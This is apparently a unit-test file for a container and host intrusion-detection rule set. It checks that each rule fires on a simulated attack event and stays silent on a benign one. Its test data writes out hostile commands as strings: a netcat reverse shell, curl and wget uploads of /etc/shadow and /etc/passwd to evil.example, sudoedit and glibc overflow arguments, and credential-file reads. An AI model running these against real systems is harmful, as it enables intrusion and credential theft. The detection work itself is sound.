/**
 * The built-in rules on hand-made events: each fires on its attack and not on a benign
 * neighbour. Unit level, for the edges a real run does not reach (host vs container,
 * exceptions); test/rules/attacks.test.ts runs each rule's attack in a real container.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { loadRules } from '../../src/rules/index.js';
import type { TrackerEvent } from '../../src/pipeline/types.js';
import { repoRoot } from '../helpers.js';

const web = { id: 'cd7a6582a036', full_id: 'cd7a6582a036'.padEnd(64, '0'), name: 'web', image: 'nginx:1' };
const host = { id: 'host', full_id: 'host', name: 'host' };
// A runtime's work in web's cgroup, as container attribution marks it (docs/containers.md).
const setupOfWeb = { ...host, setup: web };
const ev = (tracker: string, data: Record<string, unknown>, container: object = web): TrackerEvent => ({ tracker, instance: 1, time: 0, data: { pid: 42, ppid: 1, uid: 0, comm: 'x', container, ...data } });
const exec = (comm: string, args: string[], extra: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('process', { type: 'exec', comm, exe: `/bin/${comm}`, args, cmdline: args.join(' '), ...extra }, container);
// `write` as opensnoop sets it (test/trackers/names checks that against the flag bits).
const open = (comm: string, path: string, flags: string, container: object = web, fd = 3): TrackerEvent =>
  ev('opensnoop', { comm, path, flags, write: /O_WRONLY|O_RDWR|O_CREAT|O_TRUNC/.test(flags), fd }, container);
const sec = (comm: string, call: string, fields: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('secsnoop', { comm, call, ...fields }, container);
const connect = (daddr: string, dport: number, container: object = web): TrackerEvent => ev('tcpconnect', { comm: 'curl', direction: 'connect', daddr, dport }, container);
const mount = (comm: string, container: object = web): TrackerEvent => ev('mountsnoop', { comm, call: 'mount', source: 'tmpfs', target: '/mnt', fs_type: 'tmpfs' }, container);

/** web, with host paths mounted as container attribution gives them (not enumerable). */
const withMounts = (paths: string[]): object => Object.defineProperty({ ...web }, 'host_mounts', { value: paths, enumerable: false });
const start = (caps: string[], extra: Record<string, unknown> = {}): TrackerEvent => exec('sleep', ['sleep', '1'], { vpid: 1, caps, ...extra });
const DEFAULT_CAPS = ['CAP_CHOWN', 'CAP_NET_RAW', 'CAP_SETUID'];

const CASES: [string, TrackerEvent, TrackerEvent][] = [
  ['insert_bpf', sec('loader', 'bpf', { cmd: 'BPF_PROG_LOAD', prog_type: 'BPF_PROG_TYPE_KPROBE' }), sec('loader', 'connect', { path: '/run/x.sock' })],
  ['anti_debugging', sec('x', 'ptrace', { request: 'PTRACE_TRACEME' }), sec('x', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }, host)],
  ['ptrace_attach', sec('x', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }), sec('gdb', 'ptrace', { request: 'PTRACE_ATTACH', target_pid: 7 }, host)],
  ['shell_in_container', exec('sh', ['sh', '-i'], { tty: 'pts0' }), exec('sh', ['sh', '-c', 'true'], { tty: '' })],
  ['sensitive_file_read', open('cat', '/etc/shadow', 'O_RDONLY'), open('sudo', '/etc/shadow', 'O_RDONLY')],
  ['write_below_etc', open('sh', '/etc/crontab', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/etc/crontab', 'O_RDONLY')],
  ['write_below_binary_dir', open('cp', '/usr/bin/ls', 'O_WRONLY|O_TRUNC'), open('apt-get', '/usr/bin/ls', 'O_WRONLY|O_TRUNC')],
  ['release_agent_write', open('sh', '/sys/fs/cgroup/rdma/release_agent', 'O_WRONLY|O_TRUNC'), open('cat', '/sys/fs/cgroup/rdma/notify_on_release', 'O_RDONLY')],
  ['kernel_module_load', sec('insmod', 'finit_module', { fd: 3 }), sec('modinfo', 'memfd_create', { name: 'x' })],
  // Attributed by kernel facts, not names: a workload calling itself runc still alerts.
  ['mount_in_container', mount('runc:[2:INIT]'), mount('runc:[2:INIT]', setupOfWeb)],
  ['namespace_change_in_container', sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' }), sec('runc:[1:CHILD]', 'setns', { nstype: 'CLONE_NEWNET' }, setupOfWeb)],
  ['memfd_exec', exec('x', ['x'], { exe: '/memfd:payload (deleted)' }), exec('runc', ['runc', 'init'], { exe: '/memfd:runc_cloned:/proc/self/exe' }, setupOfWeb)],
  ['dev_shm_exec', exec('x', ['x'], { exe: '/dev/shm/x' }), exec('x', ['x'], { exe: '/tmp/x' })],
  ['netcat_remote_exec', exec('nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), exec('nc', ['nc', '-z', '10.0.0.1', '80'])],
  ['package_manager_in_container', exec('apk', ['apk', 'add', 'curl']), exec('apk', ['apk', 'info'])],
  ['network_tool_in_container', exec('nmap', ['nmap', '10.0.0.0/24']), exec('nmap', ['nmap', '10.0.0.0/24'], {}, host)],
  ['runtime_socket_access', sec('curl', 'connect', { family: 'AF_UNIX', path: '/var/run/docker.sock' }), sec('curl', 'connect', { family: 'AF_UNIX', path: '/var/run/docker.sock' }, host)],
  ['cloud_metadata_contacted', connect('169.254.169.254', 80), connect('10.0.0.1', 80)],
  ['miner_pool_port', connect('203.0.113.9', 3333), connect('203.0.113.9', 443)],
  ['shell_history_cleared', open('sh', '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/root/.bash_history', 'O_WRONLY|O_APPEND')],
  ['ssh_key_search', exec('find', ['find', '/', '-name', 'id_rsa']), exec('find', ['find', '/', '-name', '*.log'])],
  ['ld_preload_tamper', open('sh', '/etc/ld.so.preload', 'O_WRONLY|O_CREAT'), open('ld.so', '/etc/ld.so.preload', 'O_RDONLY')],
  ['ld_preload_env', exec('true', ['true'], { ld_preload: '/tmp/x.so', ld_library_path: '' }, host), exec('ls', ['ls'], { ld_preload: 'libfakeroot-sysv.so', ld_library_path: '/usr/lib/x86_64-linux-gnu/libfakeroot' }, host)],
  ['sensitive_file_link', sec('ln', 'symlink', { path: '/tmp/s', target: '/etc/shadow' }), sec('ln', 'symlink', { path: '/tmp/h', target: '/etc/hostname' })],
  ['private_key_read', open('cat', '/root/.ssh/id_ed25519', 'O_RDONLY'), open('ssh', '/root/.ssh/id_ed25519', 'O_RDONLY')],
  ['container_drift', exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }), exec('x', ['x'], { exe: '/tmp/x', upper_layer: true }, host)],
  ['packet_socket_in_container', sec('x', 'socket', { family: 'AF_PACKET', type: 'SOCK_RAW' }), sec('ping', 'socket', { family: 'AF_INET', type: 'SOCK_RAW' })],
  ['reverse_shell', exec('sh', ['sh', '-i'], { stdin: 'inet', stdout: 'inet' }), exec('sh', ['sh', '-i'], { stdin: 'unix', stdout: 'unix' })],
  ['reverse_shell_fifo', exec('nc', ['nc', '10.0.0.1', '4444'], { stdin: 'pipe', stdout: 'fifo' }), exec('cat', ['cat'], { stdin: 'fifo', stdout: 'pipe' })],
  // A connection the process made itself, against one a server accepted (busybox httpd, inetd): the same name on purpose.
  ['stdio_socket_redirect', sec('httpd', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0, accepted: false }), sec('httpd', 'dup2', { family: 'AF_INET6', type: 'SOCK_STREAM', oldfd: 3, newfd: 0, accepted: true })],
  ['privileged_container_started', start(DEFAULT_CAPS, { container: { ...web, privileged: true } }), start(DEFAULT_CAPS)],
  ['sensitive_host_mount', start(DEFAULT_CAPS, { container: withMounts(['/var/lib/app', '/var/run/docker.sock']) }), start(DEFAULT_CAPS, { container: withMounts(['/var/lib/app', '/srv/data']) })],
  ['excessively_capable_container', start([...DEFAULT_CAPS, 'CAP_SYS_MODULE']), start([...DEFAULT_CAPS, 'CAP_SYS_MODULE'], { vpid: 7 })],
  ['setuid_bit_set', sec('chmod', 'fchmodat', { path: '/tmp/x', mode: '4755' }), sec('dpkg', 'fchmodat', { path: '/usr/bin/sudo', mode: '4755' }, host)],
  ['userfaultfd_in_container', sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }), sec('x', 'userfaultfd', { flags: 'O_CLOEXEC' }, host)],
  ['kexec_load', sec('kexec', 'kexec_file_load'), sec('kexec', 'memfd_create', { name: 'kernel' })],
  ['user_management_in_container', exec('useradd', ['useradd', 'eve']), exec('useradd', ['useradd', '--help'])],
  ['remote_copy_tool_in_container', exec('curl', ['curl', '-o', '/tmp/x', 'http://x']), exec('curl', ['curl', '--version'])],
  ['shell_script_from_pipe', exec('sh', ['sh'], { stdin: 'pipe' }), exec('sh', ['sh', '-c', 'cat'], { stdin: 'pipe' })],
  ['cluster_admin_tool_in_container', exec('kubectl', ['kubectl', 'get', 'secrets']), exec('kubectl', ['kubectl', 'get', 'secrets'], {}, host)],
  ['proc_environ_read', open('cat', '/proc/1/environ', 'O_RDONLY'), open('cat', '/proc/self/environ', 'O_RDONLY')],
  ['kernel_hook_write', open('sh', '/proc/sys/kernel/core_pattern', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/proc/sys/kernel/core_pattern', 'O_RDONLY')],
  ['raw_memory_device_opened', open('dd', '/dev/mem', 'O_RDONLY'), open('dd', '/dev/zero', 'O_RDONLY')],
  ['log_cleared', open('sh', '/var/log/auth.log', 'O_WRONLY|O_CREAT|O_TRUNC'), open('logrotate', '/var/log/auth.log', 'O_WRONLY|O_TRUNC')],
  ['log_file_deleted', sec('rm', 'unlinkat', { path: '/var/log/auth.log', flags: '0' }, host), sec('rm', 'unlink', { path: '/var/log/auth.log.2.gz' }, host)],
  ['secure_delete_tool', exec('shred', ['shred', '-u', '/var/log/messages'], {}, host), exec('shred', ['shred', '--help'], {}, host)],
  ['proc_mem_access', open('mimipenguin', '/proc/812/mem', 'O_RDONLY'), open('gdb', '/proc/812/mem', 'O_RDWR', host)],
  ['runtime_binary_overwrite', open('sh', '/proc/self/exe', 'O_WRONLY|O_TRUNC'), open('cat', '/proc/self/exe', 'O_RDONLY')],
  ['hardening_sysctl_write', open('sh', '/proc/sys/kernel/randomize_va_space', 'O_WRONLY|O_CREAT|O_TRUNC'), open('systemd-sysctl', '/proc/sys/kernel/randomize_va_space', 'O_WRONLY', host)],
  ['kubelet_or_etcd_contacted', connect('10.0.0.1', 10250), ev('tcpconnect', { comm: 'metrics-server', direction: 'connect', daddr: '10.0.0.1', dport: 10250, k8s: { namespace: 'kube-system' } })],
  ['block_device_access', open('dd', '/dev/sda', 'O_RDONLY'), open('dd', '/dev/sda', 'O_RDONLY', host)],
  ['write_below_lib_dir', open('sh', '/usr/lib/security/pam_evil.so', 'O_WRONLY|O_CREAT|O_TRUNC'), open('python3', '/usr/lib/python3/dist-packages/x/__pycache__/a.cpython-311.pyc', 'O_WRONLY|O_CREAT|O_TRUNC')],
  ['server_spawned_shell', exec('sh', ['sh', '-c', 'id'], { pcomm: 'php-fpm8.2' }), exec('sh', ['sh', '/var/www/cgi-bin/status'], { pcomm: 'httpd' })],
  ['miner_stratum_url', exec('app', ['app', '-o', 'stratum+tcp://pool.example:3333']), exec('app', ['app', '-o', 'https://pool.example'])],
  ['known_miner_run', exec('xmrig', ['xmrig', '-o', 'x']), exec('xmllint', ['xmllint', 'x'])],
  ['ssh_from_container', connect('10.0.0.9', 22), connect('10.0.0.9', 22, host)],
  ['tor_port_contacted', connect('10.0.0.9', 9050), connect('10.0.0.9', 9080)],
  ['input_device_read', open('cat', '/dev/input/event0', 'O_RDONLY'), open('cat', '/dev/input/event0', 'O_RDONLY', host)],
  ['kvm_in_container', open('qemu', '/dev/kvm', 'O_RDWR'), open('qemu', '/dev/kvm', 'O_RDWR', host)],
  ['library_from_writable_dir', open('app', '/tmp/libx.so', 'O_RDONLY|O_CLOEXEC'), open('app', '/usr/lib/libx.so', 'O_RDONLY|O_CLOEXEC')],
  ['fake_kernel_thread_name', exec('sleep', ['[kworker/0:1]'], { prog: '0:1]' }), exec('sleep', ['worker'], { prog: 'worker' })],
  ['password_cracker_run', exec('john', ['john', 'hashes']), exec('johnny', ['johnny'])],
  ['tunnel_tool_in_container', exec('chisel', ['chisel', 'client', 'x:80', 'R:2222']), exec('chisel', ['chisel', '--version'])],
  ['shell_history_read', open('cat', '/root/.bash_history', 'O_RDONLY'), open('bash', '/root/.bash_history', 'O_RDONLY')],
  ['firmware_write', open('sh', '/sys/firmware/efi/efivars/Boot0000-x', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/sys/firmware/efi/efivars/Boot0000-x', 'O_RDONLY')],
  ['python_startup_hook', open('sh', '/usr/lib/python3/dist-packages/evil.pth', 'O_WRONLY|O_CREAT|O_TRUNC'), open('python3', '/usr/lib/python3/dist-packages/x.pth', 'O_RDONLY')],
  ['mail_forward_written', open('sh', '/root/.forward', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/root/.forward', 'O_RDONLY')],
  ['shell_config_modified', open('sh', '/root/.bashrc', 'O_WRONLY|O_APPEND|O_CREAT'), open('bash', '/root/.bashrc', 'O_RDONLY')],
  ['ssh_authorized_keys_modified', open('sh', '/root/.ssh/authorized_keys', 'O_WRONLY|O_APPEND|O_CREAT'), open('sshd', '/root/.ssh/authorized_keys', 'O_RDONLY')],
  ['cron_modified', open('sh', '/etc/cron.d/job', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cron', '/etc/cron.d/job', 'O_RDONLY')],
  ['path_traversal_read', open('php-fpm', '/var/www/html/../../../etc/passwd', 'O_RDONLY'), open('php-fpm', '/var/www/html/../lib/a.php', 'O_RDONLY')],
  ['credential_search', exec('grep', ['grep', '-ri', 'password', '/etc']), exec('grep', ['grep', '-i', 'error', '/var/log/app.log'])],
  ['pam_config_modified', open('sh', '/etc/pam.d/sshd', 'O_WRONLY|O_TRUNC'), open('dpkg', '/etc/pam.d/sshd', 'O_WRONLY|O_TRUNC', host)],
  ['dev_file_created', open('sh', '/dev/.x', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/dev/null', 'O_WRONLY|O_CREAT|O_TRUNC')],
  // Host files written anywhere; the package manager installing them on the host is silent.
  ['systemd_unit_written', open('sh', '/etc/systemd/system/x.service', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('dpkg', '/lib/systemd/system/x.service', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['udev_rule_written', open('cp', '/etc/udev/rules.d/99-x.rules', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('systemd-udevd', '/etc/udev/rules.d/99-x.rules', 'O_RDONLY', host)],
  ['root_certificate_added', open('cp', '/usr/local/share/ca-certificates/x.crt', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('curl', '/usr/local/share/ca-certificates/x.crt', 'O_RDONLY', host)],
  ['package_repo_modified', open('tee', '/etc/apt/sources.list.d/x.list', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('apt-get', '/etc/apt/sources.list.d/x.list', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['rc_script_modified', open('sh', '/etc/rc.local', 'O_WRONLY|O_APPEND|O_CREAT', host), open('update-rc.d', '/etc/rc2.d/S01x', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['logging_config_modified', open('sed', '/etc/audit/rules.d/audit.rules', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('auditd', '/etc/audit/auditd.conf', 'O_RDONLY', host)],
  ['mail_transport_config_modified', open('sh', '/etc/postfix/main.cf', 'O_WRONLY|O_APPEND', host), open('postmap', '/etc/postfix/virtual.db', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['ld_so_conf_modified', open('sh', '/etc/ld.so.conf.d/x.conf', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('ldconfig', '/etc/ld.so.conf.d/x.conf', 'O_RDONLY', host)],
  ['pam_module_written', open('cp', '/lib/x86_64-linux-gnu/security/pam_x.so', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('dpkg', '/lib/x86_64-linux-gnu/security/pam_unix.so', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['sudo_timestamp_modified', open('x', '/run/sudo/ts/alice', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('sudo', '/run/sudo/ts/alice', 'O_RDWR|O_CREAT', host)],
  ['package_db_modified', open('sh', '/var/lib/dpkg/status', 'O_WRONLY|O_APPEND', host), open('update-alternat', '/var/lib/dpkg/alternatives/x', 'O_WRONLY|O_CREAT|O_TRUNC', host)],
  ['credential_cache_read', open('cat', '/tmp/krb5cc_1000', 'O_RDONLY'), open('klist', '/tmp/krb5cc_1000', 'O_RDONLY')],
  ['tls_private_key_read', open('cat', '/etc/kubernetes/pki/ca.key', 'O_RDONLY', host), open('kube-apiserver', '/etc/kubernetes/pki/apiserver.key', 'O_RDONLY', host)],
  ['credential_file_read', open('cat', '/root/.aws/credentials', 'O_RDONLY'), open('aws', '/root/.aws/credentials', 'O_RDONLY')],
  ['service_account_token_read', open('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token', 'O_RDONLY'), open('operator', '/var/run/secrets/kubernetes.io/serviceaccount/token', 'O_RDONLY')],
  ['ssh_config_read', open('cat', '/root/.ssh/known_hosts', 'O_RDONLY'), open('ssh', '/root/.ssh/known_hosts', 'O_RDONLY')],
  ['web_root_written', open('php-fpm', '/var/www/html/x.php', 'O_WRONLY|O_CREAT|O_TRUNC'), open('php-fpm', '/var/www/html/wp-content/uploads/a.png', 'O_WRONLY|O_CREAT|O_TRUNC')],
  ['block_device_write', open('dd', '/dev/sda', 'O_WRONLY|O_CREAT|O_TRUNC', host), open('mkfs.ext4', '/dev/sdb1', 'O_RDWR', host)],
  ['empty_argv_exec', exec('pkexec', [], { exe: '/usr/bin/pkexec', prog: 'pkexec', args_size: 1 }, host), exec('pkexec', ['pkexec', 'true'], { exe: '/usr/bin/pkexec', prog: 'pkexec', args_size: 12 }, host)],
  ['sudo_heap_overflow_args', exec('sudoedit', ['sudoedit', '-s', '\\', 'AAAA'], { prog: 'sudoedit' }, host), exec('sudoedit', ['sudoedit', '-s', '/etc/motd'], { prog: 'sudoedit' }, host)],
  ['audit_disabled', exec('auditctl', ['auditctl', '-e', '0'], {}, host), exec('auditctl', ['auditctl', '-e', '1'], {}, host)],
  ['firewall_flushed', exec('iptables', ['iptables', '-F'], {}, host), exec('iptables', ['iptables', '-t', 'nat', '-F', 'DOCKER'], { pcomm: 'dockerd' }, host)],
  ['vnc_from_container', connect('10.0.0.9', 5900), connect('10.0.0.9', 5900, host)],
  ['k8s_api_server_contacted', connect('10.96.0.1', 443), ev('tcpconnect', { comm: 'coredns', direction: 'connect', daddr: '10.96.0.1', dport: 443, k8s: { namespace: 'kube-system' } })],
  ['remote_access_service_in_container', ev('bindsnoop', { comm: 'dropbear', port: 22, protocol: 'TCP', result: '0' }), ev('bindsnoop', { comm: 'sshd', port: 22, protocol: 'TCP', result: '0' }, host)],
  ['dhcp_server_in_container', ev('bindsnoop', { comm: 'dnsmasq', port: 67, protocol: 'UDP', result: '0' }), ev('bindsnoop', { comm: 'app', port: 67, protocol: 'TCP', result: '0' })],
  ['proc_pid_mount', ev('mountsnoop', { comm: 'mount', call: 'mount', source: '/tmp/empty', target: '/proc/4242', fs_type: '' }, host), ev('mountsnoop', { comm: 'mount', call: 'mount', source: 'proc', target: '/proc', fs_type: 'proc' }, host)],
  ['ssh_agent_hijack', sec('python3', 'connect', { family: 'AF_UNIX', path: '/tmp/ssh-XXXXa1/agent.42' }, host), sec('ssh', 'connect', { family: 'AF_UNIX', path: '/tmp/ssh-XXXXa1/agent.42' }, host)],
  ['binary_dir_modified', sec('mv', 'renameat2', { path: '/tmp/ls', target: '/usr/bin/ls' }, host), sec('dpkg', 'rename', { path: '/usr/bin/ls.dpkg-new', target: '/usr/bin/ls' }, host)],
  // zsh saves its history by renaming a new file over it
  ['shell_history_deleted', sec('ln', 'symlink', { path: '/root/.bash_history', target: '/dev/null' }), sec('zsh', 'rename', { path: '/root/.zsh_history.new', target: '/root/.zsh_history' })],
  ['timestomp', sec('touch', 'utimensat', { path: '/usr/bin/sshd', mtime: 1262304000 }, host), sec('tar', 'utimensat', { path: '/usr/bin/tool', mtime: 1262304000 }, host)],
  ['device_node_created_in_container', sec('mknod', 'mknodat', { path: '/tmp/sda', mode: 'block', major: 8, minor: 0 }), sec('runc:[2:INIT]', 'mknodat', { path: '/dev/null', mode: 'char', major: 1, minor: 3 }, setupOfWeb)],
  ['socket_filter_attached', sec('x', 'setsockopt', { optname: 'SO_ATTACH_FILTER', family: 'AF_PACKET' }), sec('udevadm', 'setsockopt', { optname: 'SO_ATTACH_FILTER', family: 'AF_NETLINK' })],
  ['xattr_payload_written', sec('x', 'setxattr', { path: '/tmp/f', xattr: 'user.payload', size: 4096 }), sec('setfacl', 'setxattr', { path: '/tmp/f', xattr: 'system.posix_acl_access', size: 28 })],
  ['reboot_attempted', sec('x', 'reboot', { cmd: 'LINUX_REBOOT_CMD_RESTART' }, host), sec('systemd-shutdow', 'reboot', { cmd: 'LINUX_REBOOT_CMD_POWER_OFF' }, host)],
  ['glibc_tunables_overflow', exec('su', ['su'], { glibc_tunables: 'glibc.malloc.mxfast=glibc.malloc.mxfast=AAAA' }, host), exec('java', ['java'], { glibc_tunables: 'glibc.malloc.arena_max=2:glibc.malloc.trim_threshold=131072' }, host)],
  ['writable_dir_in_path', exec('ls', ['ls'], { path_env: '.:/usr/bin:/bin' }), exec('ls', ['ls'], { path_env: '/usr/local/bin:/usr/bin:/bin' })],
  // kubectl cp (the runtime starts tar, its parent outside); tar in a shell of the container
  ['container_files_copied_out', exec('tar', ['tar', 'cf', '-', '/data'], { vppid: 0, vpid: 40 }), exec('tar', ['tar', 'cf', '-', '/data'], { vppid: 12, vpid: 40 })],
  // seccomplog reports only what is outside the profile: any report alerts; another tracker's event of the same shape does not
  ['seccomp_profile_violation', ev('seccomplog', { comm: 'unshare', outside: 'syscall', syscall: 'unshare' }), ev('secsnoop', { comm: 'unshare', outside: 'syscall', syscall: 'unshare' })],
  ['network_tool_from_package_install', exec('curl', ['curl', '-sL', 'http://x/s.sh'], { pcomm: 'sh', gpcomm: 'npm install' }, host), exec('curl', ['curl', '-sL', 'http://x/s.sh'], { pcomm: 'sh', gpcomm: 'make' }, host)],
];

test('every built-in rule has a case here and a row in docs/rules.md', () => {
  const ids = loadRules([]).rules().map((r) => r.id).sort();
  assert.deepEqual(CASES.map((c) => c[0]).sort(), ids);
  const section = readFileSync(join(repoRoot, 'docs/rules.md'), 'utf8').split('## Built-in rules')[1]!.split('\n## ')[0]!;
  const documented = [...section.matchAll(/^\| `(\w+)` \|/gm)].map((m) => m[1]).sort();
  assert.deepEqual(documented, ids);
});

for (const [id, attack, benign] of CASES) {
  test(`${id}: fires on its attack, silent on a benign neighbour`, () => {
    const set = loadRules([]);
    assert.deepEqual(set.match(attack).map((m) => m.rule).filter((r) => r === id), [id]);
    assert.deepEqual(set.match(benign).map((m) => m.rule).filter((r) => r === id), []);
  });
}

test('remote_copy_tool_in_container: a file brought in alerts; health checks and clients reading a page do not', () => {
  const set = loadRules([]);
  const fires = (argv: string[]): boolean => set.match(exec(argv[0]!, argv)).some((m) => m.rule === 'remote_copy_tool_in_container');
  for (const argv of [['wget', 'http://10.0.0.5/x'], ['wget', '-q', '-O', '/tmp/x', 'http://evil.example/x'], ['curl', '-fsSLo', '/tmp/x', 'https://evil.example/x'], ['curl', '-O', 'https://evil.example/x'], ['curl', '--output', '/tmp/x', 'https://evil.example/x'], ['curl', '-s', '-F', 'f=@/etc/passwd', 'https://evil.example/u'], ['curl', '-s', '-T', '/etc/shadow', 'https://evil.example/u'], ['wget', '-qO-', '--post-file=/etc/passwd', 'http://evil.example/u']]) {
    assert.ok(fires(argv), argv.join(' '));
  }
  for (const argv of [['wget', '-q', '-O', '/dev/null', 'http://127.0.0.1:8080/health'], ['wget', '-q', '-O', '-', 'http://web:8080/'], ['wget', '-qO-', 'http://api:3000/status'], ['wget', '--spider', 'http://web/'], ['curl', '-fsS', 'http://localhost:8080/health'], ['curl', '-s', 'http://api:3000/items'], ['wget', '-q', 'http://127.0.0.1:9/x'], ['wget', '-q', '-T', '1', '-O', '-', 'http://10.0.0.5/page']]) {
    assert.ok(!fires(argv), argv.join(' '));
  }
});

test('proc_environ_read: procps listing every process with its environment (ps e, top) is silent', () => {
  const set = loadRules([]);
  for (const comm of ['ps', 'top']) {
    const reads = [1, 7, 300].map((pid) => open(comm, `/proc/${pid}/environ`, 'O_RDONLY'));
    assert.deepEqual(reads.flatMap((e) => set.match(e).map((m) => m.rule)), [], comm);
  }
});

test('miner_pool_port: also a connect that failed before any packet (secsnoop), not a unix connect', () => {
  const set = loadRules([]);
  const rules = (e: TrackerEvent): string[] => set.match(e).map((m) => m.rule);
  assert.deepEqual(rules(sec('xmrig', 'connect', { family: 'AF_INET', daddr: '203.0.113.9', dport: 3333, result: 'ENETUNREACH' })), ['miner_pool_port']);
  assert.deepEqual(rules(sec('curl', 'connect', { family: 'AF_INET6', daddr: '2001:db8::1', dport: 443, result: 'ENETUNREACH' })), []);
  assert.deepEqual(rules(sec('x', 'connect', { family: 'AF_UNIX', path: '/tmp/3333' })), []);
  assert.deepEqual(rules(ev('tcpconnect', { comm: 'x', direction: 'accept', daddr: '10.0.0.1', dport: 3333 })), [], 'an accept is not outbound');
});

test('log_file_deleted: live logs alert, wherever and however deleted; rotated ones, directories and the log daemons do not', () => {
  const set = loadRules([]);
  const fires = (e: TrackerEvent): boolean => set.match(e).some((m) => m.rule === 'log_file_deleted');
  for (const path of ['/var/log/messages', '/var/log/nginx/access.log', '/var/log/wtmp', '/var/log/journal/x/system.journal']) assert.ok(fires(sec('rm', 'unlink', { path })), path);
  for (const path of ['/var/log/app.log.1', '/var/log/syslog.12', '/var/log/app.log.2.gz', '/var/log/messages-20240101', '/var/log/x.log.20240101-120000', '/var/log/dpkg.log.old', '/var/log/a.xz']) {
    assert.ok(!fires(sec('find', 'unlinkat', { path, flags: '0' })), path);
  }
  assert.ok(!fires(sec('rm', 'unlinkat', { path: '/var/log/nginx', flags: 'AT_REMOVEDIR' })), 'a directory');
  for (const comm of ['logrotate', 'systemd-journal', 'kubelet']) assert.ok(!fires(sec(comm, 'unlink', { path: '/var/log/containers/web.log' })), comm);
  assert.ok(!fires(sec('rm', 'unlink', { path: '/tmp/var/log/x' })), 'not below /var/log');
});

test('systemd_unit_written: units in system directories and in users\' ~/.config/systemd/user; other files there are silent', () => {
  const set = loadRules([]);
  const fires = (path: string): boolean => set.match(open('sh', path, 'O_WRONLY|O_CREAT|O_TRUNC', host)).some((m) => m.rule === 'systemd_unit_written');
  for (const p of ['/etc/systemd/system/x.service', '/run/systemd/system/x.timer', '/home/eve/.config/systemd/user/x.service', '/home/eve/.config/containers/systemd/x.container', '/root/.config/systemd/user/x.timer']) assert.ok(fires(p), p);
  for (const p of ['/home/eve/.bash_history', '/home/eve/.config/systemd/notes.txt', '/etc/systemd/journald.conf']) assert.ok(!fires(p), p);
});

test('package_db_modified: the package tools are excepted by name, an interpreter is not', () => {
  const set = loadRules([]);
  const rules = (comm: string): string[] => set.match(open(comm, '/var/lib/dpkg/status', 'O_WRONLY|O_TRUNC', host)).map((m) => m.rule);
  assert.deepEqual(rules('dpkg'), []);
  assert.deepEqual(rules('update-alternat'), []);
  assert.deepEqual(rules('python3'), ['package_db_modified']);
});

test('shell_history_deleted: a runtime removing a container (its layers hold a history) is silent; the same deletion by anything else alerts', () => {
  const set = loadRules([]);
  const path = '/var/lib/docker/overlay2/50fa85c8d772/diff/root/.ash_history';
  const rules = (comm: string): string[] => set.match(sec(comm, 'unlinkat', { path, flags: '0' }, host)).map((m) => m.rule);
  assert.deepEqual(rules('dockerd'), []);
  assert.deepEqual(rules('containerd'), []);
  assert.deepEqual(rules('rm'), ['shell_history_deleted']);
});

test('sensitive_file_link: targets as given, absolute or relative; public keys and ordinary files are silent', () => {
  const set = loadRules([]);
  const fires = (call: string, target: string): boolean => set.match(sec('ln', call, { path: '/tmp/l', target })).some((m) => m.rule === 'sensitive_file_link');
  for (const t of ['/etc/shadow', '../../etc/shadow', '/etc/gshadow', '/etc/sudoers', '/etc/sudoers.d/admins', '/root/.ssh/id_rsa', '.ssh/id_ed25519', '/home/u/.ssh/authorized_keys', '/root/.ssh', '/etc/ssh/ssh_host_ed25519_key']) {
    for (const call of ['symlink', 'symlinkat', 'link', 'linkat']) assert.ok(fires(call, t), `${call} ${t}`);
  }
  const silent = ['/etc/hostname', '/root/.ssh/id_rsa.pub', '/root/.ssh/known_hosts', '/etc/ssh/ssh_host_ed25519_key.pub', '/etc/shadow.d/x', '/usr/lib/libssh.so'];
  // backups hard-link their previous copy (rsync --link-dest, cp -al), not the live file
  silent.push('daily.0/etc/shadow', '/backup/daily.1/etc/shadow', '/backup/daily.1/home/u/.ssh/id_rsa');
  for (const t of silent) assert.ok(!fires('link', t), t);
  // busybox passwd, adduser … keep the old file as a hard link named with a trailing "-"
  const backup = (comm: string, path: string): string[] => set.match(sec(comm, 'link', { path, target: '/etc/shadow' })).map((m) => m.rule);
  assert.deepEqual(backup('passwd', '/etc/shadow-'), []);
  assert.deepEqual(backup('passwd', '/tmp/shadow-'), ['sensitive_file_link']);
  assert.deepEqual(backup('ln', '/etc/shadow-'), ['sensitive_file_link']);
});

test('eunomia rules list and check', () => {
  const bin = join(repoRoot, 'bin/eunomia.js');
  const list = spawnSync(process.execPath, [bin, 'rules', 'list'], { encoding: 'utf8' });
  assert.equal(list.status, 0);
  assert.match(list.stdout, /^RULE\s+PRIORITY\s+ENABLED\s+EVENTS\s+TAGS\s+NAME\n/);
  assert.match(list.stdout, /\ninsert_bpf\s+critical\s+on\s+secsnoop\s/);
